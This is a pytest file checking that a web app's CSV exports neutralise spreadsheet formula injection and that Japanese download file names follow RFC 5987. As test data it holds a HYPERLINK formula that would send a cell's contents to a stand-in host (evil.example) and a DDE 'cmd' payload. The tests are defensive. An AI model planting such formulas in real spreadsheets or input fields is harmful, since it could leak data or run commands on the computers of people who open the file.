"""Downloads: every CSV opens in Excel (BOM) and no cell of it runs as a formula, whoever typed it; every
file is named through send_file, so a Japanese name arrives intact (RFC 5987)."""

import csv
import io
from urllib.parse import quote

from models.core.csv_out import cell, to_csv
from models.registration.attachments import Attachment
from tests import factories as f
from tests import test_company_application as steps
from tests.test_touch_ingest import item, post, recent

applicant = steps.applicant

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"詳細")'


def _rows(response):
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # Excel on Windows reads UTF-8 only with it
    return list(csv.reader(io.StringIO(text[1:])))


def test_a_site_name_typed_as_a_formula_reaches_the_workers_csv_as_text(client):
    w = f.site_with_worker()
    w["site"].name = EVIL  # the site form takes any text up to 100 characters
    w["site"].save()
    assert post(client, w["token"], [item(w["card"], "in1", recent(3)), item(w["card"], "out1", recent(1), "out")])
    f.login(client, w["account"])
    rows = _rows(client.get("/worker/history.csv"))
    assert rows[1][2] == "'" + EVIL
    f.login(client, w["prime_admin"])
    presence = _rows(client.get(f"/prime/sites/{w['site'].id}/presence.csv"))
    assert presence[1][3] == "山田 太郎" and presence[1][0] == w["site"].site_id


def test_every_formula_start_is_neutralised_and_plain_numbers_stay_numbers():
    for text in ("=1+1", "+81-3-1234", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx", "-"):
        assert cell(text) == "'" + text
    assert [cell(v) for v in (-5, "-5", "-0.25", 3, "012345678", None, "山田")] == [
        "-5",
        "-5",
        "-0.25",
        "3",
        "012345678",
        "",
        "山田",
    ]
    assert list(csv.reader(io.StringIO(to_csv([["a", "=b"], [1, None]])[1:]))) == [["a", "'=b"], ["1", ""]]


def test_a_japanese_file_name_is_sent_in_the_rfc_5987_form(client, applicant):
    application = steps.start(client)
    steps.upload(client, application, "licence_certificate", filename="建設業許可証.png")
    r = client.get(f"/apply/attachments/{Attachment.get().id}")
    disposition = r.headers["Content-Disposition"]
    assert disposition.startswith("inline;")
    assert f"filename*=UTF-8''{quote('建設業許可証.png')}" in disposition
    assert "filename=.png" in disposition  # the ASCII fallback for old clients
    assert r.headers["Cache-Control"] == "private, no-store"


def test_an_ascii_download_is_an_attachment_with_its_name(client):
    w = f.site_with_worker()
    f.login(client, w["prime_admin"])
    r = client.get(f"/prime/sites/{w['site'].id}/presence.csv")
    assert r.headers["Content-Disposition"].startswith("attachment; filename=presence-")
    assert r.mimetype == "text/csv" and "no-store" in r.headers["Cache-Control"]
